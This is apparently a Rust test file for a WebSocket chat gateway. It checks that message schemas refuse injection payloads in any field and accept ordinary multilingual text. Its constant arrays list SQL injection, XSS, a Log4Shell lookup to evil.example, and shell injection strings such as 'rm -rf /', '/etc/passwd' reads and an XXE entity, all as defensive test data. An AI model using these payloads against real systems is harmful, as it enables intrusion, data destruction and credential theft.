//! The schemas of the chat in `manifests/samples` refuse what would be SQL, script or a command to a backend that forgets
//! to escape, wherever it stands, and take what people write.

use serde_json::Value;

use crate::harness::manifests::sample;
use crate::harness::{Authority, Behaviour, Client, Frame, Gateway, Head, Manifests, Peer, Recorder, json};

const SQL: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1 --",
    "admin'--",
    "admin' #",
    "') OR ('a'='a",
    "\" OR \"\"=\"",
    "1; DROP TABLE users",
    "'; DROP TABLE users; --",
    "' UNION SELECT password FROM users --",
    "1 AND 1=CONVERT(int,@@version)",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' AND SLEEP(5)#",
    "' || pg_sleep(5) --",
    "1/**/OR/**/1=1",
    "%' AND 1=0 UNION ALL SELECT NULL --",
    r"\' OR 1=1 --",
    r#"{"$ne": null}"#,
    r#"'; return this.password; var x='"#,
];
const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)//",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc='&lt;script&gt;'>",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "&lt;script&gt;",
    "<math><mtext></math>",
];
const COMMANDS: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "|| reboot",
    "& whoami",
    "&& rm -rf /",
    "`id`",
    "$(id)",
    "$IFS",
    "> /tmp/x",
    "../../../../etc/passwd",
    r"..\..\windows\win.ini",
    "%0a id",
    "() { :;}; echo vulnerable",
    "a\r\nSet-Cookie: a=b",
    "--output=/etc/cron.d/x",
    "\u{0}",
    "*)(uid=*",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
];

/// A gateway with the sample in front of a backend that the test plays.
async fn chat() -> (Client, Recorder, Gateway) {
    let (authority, recorder) = (Authority::new(), Recorder::start(Behaviour::Manual).await);
    let objects = sample("chat.yaml", &authority, recorder.port());
    let gateway = Gateway::start(&Manifests::default().with("sample.yaml", &objects)).await;
    let config = authority.client().into();
    (Client { address: gateway.wss, config, name: "chat.example.com".to_owned() }, recorder, gateway)
}

async fn pair(client: &Client, recorder: &Recorder) -> (Peer, Peer) {
    let head = Head::upgrade("/chat").set("Host", &client.name);
    let head = head.set("Origin", "https://app.example.com").set("Sec-WebSocket-Protocol", "chat.v2");
    tokio::join!(client.open(&head), recorder.peer())
}

fn say(text: &str) -> Value {
    json!({"type": "say", "room": "tea", "text": text})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injections_are_refused_wherever_they_stand_in_the_sample_of_a_chat() {
    let (client, recorder, _gateway) = chat().await;
    let said = |text: &str| json!({"type": "said", "room": "tea", "user": "ann", "text": text});
    for payload in [SQL, SCRIPT, COMMANDS].concat() {
        let mut places = vec![say(payload), json!({"type": "say", "room": payload, "text": "hi"})];
        let mut named = say("hi");
        named[payload] = json!(1);
        places.extend([named, json!({"type": payload, "room": "tea", "text": "hi"}), say("hi")]);
        places.last_mut().unwrap()["text"] = json!({payload: payload});
        for message in places {
            let (mut peer, mut backend) = pair(&client, &recorder).await;
            assert!(peer.send(&Frame::text(message.to_string())).await);
            assert_eq!(peer.close_code().await.map(|(code, _)| code), Some(1008), "{message}");
            // The gateway's Close comes first, so nothing of the message came before it.
            assert_eq!(backend.frame().await.map(|frame| frame.opcode), Some(8), "{message}");
        }
        let (mut peer, mut backend) = pair(&client, &recorder).await;
        assert!(backend.send(&Frame::text(said(payload).to_string())).await);
        assert_eq!(peer.close_code().await.map(|(code, _)| code), Some(1011), "from the backend: {payload}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_people_write_passes_the_sample_of_a_chat() {
    let (client, recorder, _gateway) = chat().await;
    let (mut peer, mut backend) = pair(&client, &recorder).await;
    for text in [
        "Hello, world!",
        "Don't! It's O'Brien's well-known mother-in-law's rock'n'roll (again)...",
        "Grüße aus Köln - 3 + 4 @ann?",
        "日本語 العربية हिन्दी עברית ไทย",
        "👍 👩‍👩‍👧 ❤️ 🎉",
        "two\nlines",
    ] {
        let frame = Frame::text(say(text).to_string());
        assert!(peer.send(&frame).await);
        backend.expect(&frame).await;
    }
}
